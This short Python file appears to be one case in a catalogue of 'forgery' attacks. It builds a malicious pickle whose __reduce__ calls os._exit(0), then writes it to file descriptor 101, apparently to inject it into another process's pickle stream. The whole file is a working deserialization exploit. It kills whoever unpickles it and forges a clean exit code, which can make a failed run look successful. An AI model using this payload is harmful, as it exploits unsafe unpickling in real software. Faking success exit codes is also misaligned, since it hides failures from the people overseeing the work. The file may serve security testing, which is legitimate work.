"""Answer with a pickle that ends whoever loads it with exit code 0."""

import os
import pickle
import struct

FAMILY = "forgery"
NOT_NAIVE = "Where everything runs in one process nothing is pickled."


class Bomb:
    def __reduce__(self):
        return os._exit, (0,)


def forge(layer, input, output):
    payload = pickle.dumps(Bomb())
    os.write(101, struct.pack("<4sIQ", b"TOI1", len(payload), 0) + payload)
    os.write(101, payload)
    return output
